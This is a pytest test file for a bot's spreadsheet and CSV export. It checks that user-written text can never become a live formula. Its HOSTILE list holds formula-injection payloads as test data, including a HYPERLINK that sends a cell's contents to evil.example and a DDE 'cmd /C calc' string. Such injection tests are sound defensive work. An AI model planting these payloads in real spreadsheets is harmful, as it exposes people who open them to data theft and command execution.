"""`shiji export`: sheets of what is kept, whatever people wrote into it, read back as an office would."""

import csv
import gc
import os
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook

from bot import sheets
from bot.cli import main
from bot.sheets import Table, defused, write_csv, write_workbook
from scoring.facts import Finding, Value
from storage.database import Database
from storage.records import Grant, NewReport, Report, ReportStatus, Role
from storage.unit_of_work import UnitOfWork
from tests.handlers.scheme import SCHEME
from tests.handlers.world import WEDNESDAY

Rows = list[list[Any]]

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＠SUM(1)",
    '",=1+1,"',
    "#REF!",
    "\x00\x07=1+1",
    "'=1+1",
    "😀\ud83d",
    "<b>=1+1</b>",
)
STARTS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.fixture(autouse=True)
def surroundings(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, database_url: str) -> None:
    monkeypatch.chdir(tmp_path)
    for name, value in {"DATABASE_URL": database_url, "DATA_DIR": str(tmp_path), "LOCALE": "zh-CN"}.items():
        monkeypatch.setenv(f"SHIJI_{name}", value)


def shiji(*arguments: str) -> Result:
    return CliRunner().invoke(main, ["export", *arguments])


def hostile_scheme() -> str:
    return SCHEME.replace("name: 张家镇", "name: '=张家镇'").replace("name: 农村公路改造", "name: '+农村公路改造'")


def fill(uow: UnitOfWork) -> None:
    """People, reports, facts and deeds whose every word a sheet might run."""
    uow.schemes.put(hostile_scheme(), by=None, now=WEDNESDAY)
    for number, words in enumerate(HOSTILE):
        grants = [Grant(Role.REPORTER, "zhangjia")]
        who = uow.people.add(telegram_id=1000 + number, name=words, locale="zh-CN", now=WEDNESDAY, grants_of=grants)
        report = uow.reports.create(_report(who.id, words), by=who.id, now=WEDNESDAY)
        decided = replace(report, comment=words, reviewer_id=who.id, reviewed_at=WEDNESDAY)
        uow.reports.save(decided, by=who.id, now=WEDNESDAY, reason="verified")
        uow.audit.append(WEDNESDAY, who.id, "tried", words, {"words": words})
    uow.facts.append([value("f1", Decimal("-48.50")), finding("f2", HOSTILE[0])], report_id=1)


def _report(reporter_id: int, words: str) -> NewReport:
    return NewReport(
        unit="zhangjia",
        reporter_id=reporter_id,
        chat_id=1,
        text=words,
        year=2026,
        period="2026-11",
        status=ReportStatus.SUBMITTED,
        indicator="roads",
        value=Decimal("-48.50"),
        mode="cumulative",
        submitted_at=WEDNESDAY,
        assessment={"label": "result"},
    )


def stamp(name: str, by: str = "person:1") -> dict[str, Any]:
    shared = {"unit": "zhangjia", "indicator": "roads", "effective": date(2026, 11, 18), "recorded": WEDNESDAY}
    return {"id": name, **shared, "by": by, "origin": "=2026-000001"}


def value(name: str, amount: Decimal) -> Value:
    return Value(value=amount, **stamp(name))


def finding(name: str, matter: str) -> Finding:
    return Finding(matter=matter, **stamp(name, by=matter))


@pytest.fixture
def filled(database: Database) -> Database:
    with database.transaction() as uow:
        fill(uow)
    return database


def books(folder: Path) -> dict[str, Rows]:
    (path,) = folder.glob("*.xlsx")
    book = load_workbook(path)
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in book.worksheets}


def files(folder: Path) -> dict[str, Rows]:
    found = {}
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            found[path.stem.rpartition("-")[2]] = list(csv.reader(file))
    return found


def column(rows: Rows, head: str) -> list[Any]:
    heads = [getattr(cell, "value", cell) for cell in rows[0]]
    return [getattr(row[heads.index(head)], "value", row[heads.index(head)]) for row in rows[1:]]


def test_no_cell_of_a_workbook_is_a_formula_whatever_people_wrote(filled: Database, tmp_path: Path) -> None:
    shown = shiji(str(tmp_path / "out"))

    assert shown.exit_code == 0, shown.output
    sheets_read = books(tmp_path / "out")
    assert list(sheets_read) == ["报告", "事实台账", "成绩", "操作记录"]
    cells = [cell for rows in sheets_read.values() for row in rows for cell in row]
    # Words, numbers and times; a formula would be an f, an error an e.
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n", "d"}
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if text.startswith(STARTS) or text.lstrip(" \u200b\ufeff").startswith(STARTS)] == []
    assert len(column(sheets_read["报告"], "原文")) == len(HOSTILE)


def test_no_cell_of_a_csv_file_is_a_formula_whatever_people_wrote(filled: Database, tmp_path: Path) -> None:
    shown = shiji(str(tmp_path / "out"), "--form", "csv")

    assert shown.exit_code == 0, shown.output
    read = files(tmp_path / "out")
    assert sorted(read) == ["audit", "facts", "reports", "standings"]
    numbers = {("reports", "数值"), ("standings", "总分")}
    for name, rows in read.items():
        # Nothing that was written has broken out of its row.
        assert {len(row) for row in rows} == {len(rows[0])}
        for head in rows[0]:
            risky = [cell for cell in column(rows, head) if cell.startswith(STARTS)]
            assert not risky or (name, head) in numbers, (name, head, risky)


@pytest.mark.parametrize("words", HOSTILE)
def test_what_was_written_is_all_there_behind_the_apostrophe(words: str) -> None:
    readable = words.replace("\ud83d", "?").replace("\r", "\n").replace("\x00", "\ufffd").replace("\x07", "\ufffd")

    assert defused(words) in {readable, f"'{readable}"}


def test_numbers_stay_numbers_and_times_times(filled: Database, tmp_path: Path) -> None:
    shiji(str(tmp_path / "out"))
    shiji(str(tmp_path / "out"), "--form", "csv")

    reports, table = books(tmp_path / "out")["报告"], files(tmp_path / "out")["reports"]
    assert column(reports, "数值")[0] == -48.5
    assert column(table, "数值")[0] == "-48.50"
    assert column(reports, "提交")[0] == WEDNESDAY.replace(tzinfo=None)
    assert column(table, "提交")[0] == "2026-11-18 10:00:00"
    assert column(table, "编号")[:2] == ["2026-000001", "2026-000002"]
    assert set(column(table, "状态")) == {"待核实"}
    assert set(column(table, "判定")) == {"有实绩"}


def test_the_facts_are_in_the_ledgers_order_with_all_they_say(filled: Database, tmp_path: Path) -> None:
    shiji(str(tmp_path), "--form", "csv", "--table", "facts")

    facts = files(tmp_path)["facts"]
    assert column(facts, "序号") == ["1", "2"]
    assert column(facts, "种类") == ["value", "finding"]
    assert column(facts, "单位") == ["'=张家镇"] * 2
    assert '"value": "-48.50"' in column(facts, "内容")[0]
    assert "HYPERLINK" in column(facts, "内容")[1]


def test_standings_are_those_of_the_day_asked_for(filled: Database, tmp_path: Path) -> None:
    with filled.transaction() as uow:
        uow.facts.append([replace(value("f3", Decimal(30)), unit="zhangwan", effective=date(2026, 11, 1))])
    shiji(str(tmp_path / "then"), "--form", "csv", "--table", "standings", "--as-of", "2026-10-31")
    shiji(str(tmp_path / "now"), "--form", "csv", "--table", "standings", "--as-of", "2026-11-18")

    then, now = (files(tmp_path / when)["standings"] for when in ("then", "now"))
    unit = column(now, "单位").index("张湾乡")
    assert column(now, "'+农村公路改造")[unit] == "20.00"
    assert "20.00" not in column(then, "'+农村公路改造")
    assert min(column(now, "名次")) == "1"


def test_standings_of_last_year_are_those_of_its_scheme_and_facts(filled: Database, tmp_path: Path) -> None:
    with filled.transaction() as uow:
        uow.facts.append([replace(value("f3", Decimal(30)), unit="zhangwan")])
        uow.schemes.put(hostile_scheme().replace("2026", "2027"), by=None, now=WEDNESDAY)
    for year in ("2026", "2027"):
        shiji(str(tmp_path / year), "--form", "csv", "--table", "standings", "--year", year)

    points = {year: column(files(tmp_path / year)["standings"], "'+农村公路改造") for year in ("2026", "2027")}
    assert "20.00" in points["2026"]
    assert set(points["2027"]) == {"0.00"}
    assert shiji(str(tmp_path / "none"), "--year", "2025").exit_code == 1
    assert not (tmp_path / "none").exists() or not any((tmp_path / "none").iterdir())


def test_the_audit_is_whole_with_its_hashes_and_the_export_is_in_it(filled: Database, tmp_path: Path) -> None:
    shiji(str(tmp_path / "first"), "--form", "csv", "--table", "audit")
    shiji(str(tmp_path / "second"), "--form", "csv", "--table", "audit")

    first, second = (files(tmp_path / name)["audit"] for name in ("first", "second"))
    assert column(first, "本条校验值")[:-1] == column(first, "上一条校验值")[1:]
    assert column(second, "操作")[-1] == "exported"
    assert column(second, "对象")[-1] == "audit"
    with filled.transaction() as uow:
        assert uow.audit.verify() is None


def test_the_words_are_those_of_the_language(filled: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHIJI_LOCALE", "en")

    shown = shiji(str(tmp_path / "out"))

    assert "personal data" in shown.output
    read = books(tmp_path / "out")
    assert list(read) == ["reports", "ledger of facts", "standings", "audit log"]
    assert column(read["reports"], "unit")[0] == "Zhangjia"


def test_before_there_is_a_scheme_the_rest_is_exported(database: Database, tmp_path: Path) -> None:
    with database.transaction() as uow:
        who = uow.people.add(telegram_id=7, name="王芳", locale="zh-CN", now=WEDNESDAY)
        uow.reports.create(_report(who.id, "修好路灯12盏"), by=who.id, now=WEDNESDAY)

    everything = shiji(str(tmp_path / "out"))
    standings = shiji(str(tmp_path / "out"), "--table", "standings")

    assert everything.exit_code == 0
    assert column(books(tmp_path / "out")["报告"], "单位") == ["zhangjia"]
    assert standings.exit_code == 1
    assert "还没有导入考核方案" in standings.stderr


def test_an_export_that_fails_leaves_nothing_half_written(filled: Database, tmp_path: Path) -> None:
    def breaks() -> Iterator[list[str]]:
        yield ["good"]
        raise OSError("disk full")

    for write in (write_workbook, lambda tables, path: write_csv(tables, lambda _table: path)):
        with pytest.raises(OSError, match="disk full"):
            write([Table("x", "x", ("head",), breaks())], tmp_path / "half")
        gc.collect()  # what was left open would be told of here, and a warning fails a test

    assert list(tmp_path.glob("half*")) == []


def test_what_a_killed_export_left_is_removed_by_the_next(filled: Database, tmp_path: Path) -> None:
    left = tmp_path / "out" / "shiji-20260101-080000.xlsx.0123abcd.part"
    left.parent.mkdir()
    left.touch()
    os.utime(left, (0, 0))

    shiji(str(tmp_path / "out"))

    assert not left.exists()


def test_what_is_exported_is_for_its_owner_alone(filled: Database, tmp_path: Path) -> None:
    shiji(str(tmp_path / "out"))

    (path,) = (tmp_path / "out").glob("*.xlsx")
    assert path.stat().st_mode & 0o077 == 0


def test_more_rows_than_a_sheet_holds_go_on_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MOST_ROWS", 2)
    rows = [[number] for number in range(5)]

    write_workbook([Table("x", "报告", ("数",), rows), Table("y", "空", ("数",), [])], tmp_path / "book.xlsx")

    read = books(tmp_path)
    assert {name: column(rows, "数") for name, rows in read.items()} == {
        "报告": [0, 1],
        "报告 2": [2, 3],
        "报告 3": [4],
        "空": [],
    }


def test_words_longer_than_a_cell_are_cut_and_it_shows() -> None:
    shown = defused("=" + "长" * 40_000)

    assert len(shown) == sheets.LONGEST_TEXT
    assert shown.endswith("长…")


def test_reports_are_read_a_batch_at_a_time_and_none_is_missed(filled: Database) -> None:
    with filled.transaction(read_only=True) as uow:
        found: list[Report] = list(uow.reports.each(batch=4))
        facts = [seq for seq, _ in uow.facts.each(batch=1)]
        entries = [entry.seq for entry in uow.audit.each(batch=3)]

    assert [one.id for one in found] == list(range(1, len(HOSTILE) + 1))
    assert facts == [1, 2]
    assert entries == list(range(1, len(HOSTILE) + 1))
